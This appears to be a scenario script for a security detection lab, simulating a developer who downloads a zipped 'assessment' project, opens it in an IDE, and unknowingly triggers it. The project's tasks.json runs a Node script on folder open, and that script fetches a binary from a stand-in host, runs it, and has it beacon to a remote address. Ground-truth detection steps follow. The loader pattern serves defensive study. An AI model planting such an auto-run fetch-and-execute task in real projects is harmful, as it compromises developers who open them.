# Opening the folder is enough: the project brings a task that runs on opening.
title="Downloaded project opened in an IDE, its task runs by itself"
what="dev downloads assessment.zip with Firefox from a file sharing site, unpacks it and opens the folder in the IDE, which runs the project's task with runOn folderOpen: node runs a script of the project, which fetches a program from 203.0.113.66 into ~/.cache and starts it. It connects to 203.0.113.67 port 8443."
host=ws3.example.org user=dev daemons="cron sshd"
stand_ins=("/opt/code/code stands in for Visual Studio Code: it reads a folder and runs its folderOpen task in a shell on a terminal of its own")

setup() {
  compile ide /opt/code/code
  mkdir -p "$base/out/t/assessment/.vscode" "$base/out/t/assessment/tools"
  printf '{\n  "version": "2.0.0",\n  "tasks": [{ "label": "prepare", "type": "shell", "command": "node tools/prepare.js", "runOptions": { "runOn": "folderOpen" } }]\n}\n' > "$base/out/t/assessment/.vscode/tasks.json"
  echo 'Implement the two functions in src.' > "$base/out/t/assessment/README.md"
  cat > "$base/out/t/assessment/tools/prepare.js" <<'P'
const { execSync } = require('node:child_process');
const at = process.env.HOME + '/.cache/assess';
execSync(`mkdir -p ${at} && wget -q -O ${at}/d http://drop.example.net/assess && chmod +x ${at}/d && ${at}/d 203.0.113.67 8443`);
P
  (cd "$base/out/t" && zip -qr "$base/out/www/assessment.zip" assessment)
  cc -O1 -o "$base/out/www/assess" "$lab/lib/stand-ins/beacon.c"
}
act() {
  display_up
  small_talk 2
  firefox_save dev http://files.example.net/assessment.zip assessment.zip
  sleep 2
  console_as dev <<'L'
mkdir -p projects; cd projects
unzip -q ~/Downloads/assessment.zip
ls assessment
L
  sleep 2
  desktop_as dev -- /opt/code/code /home/dev/projects/assessment; desktop_wait
  small_talk 1
}
truth() {
  file_step save 'firefox-esr rename.*/home/dev/Downloads/assessment.zip' 'the browser saves the archive'
  exec_step unpack 'unzip -q /home/dev/Downloads/assessment.zip' 'it is unpacked'
  exec_step open '/opt/code/code ' 'the folder is opened'
  exec_step task 'bash -c node tools/prepare.js' 'its task runs'
  net_step fetch 'wget 203.0.113.66:80' 'it fetches a program'
  net_step beacon '203.0.113.67:8443' 'which calls out'
}
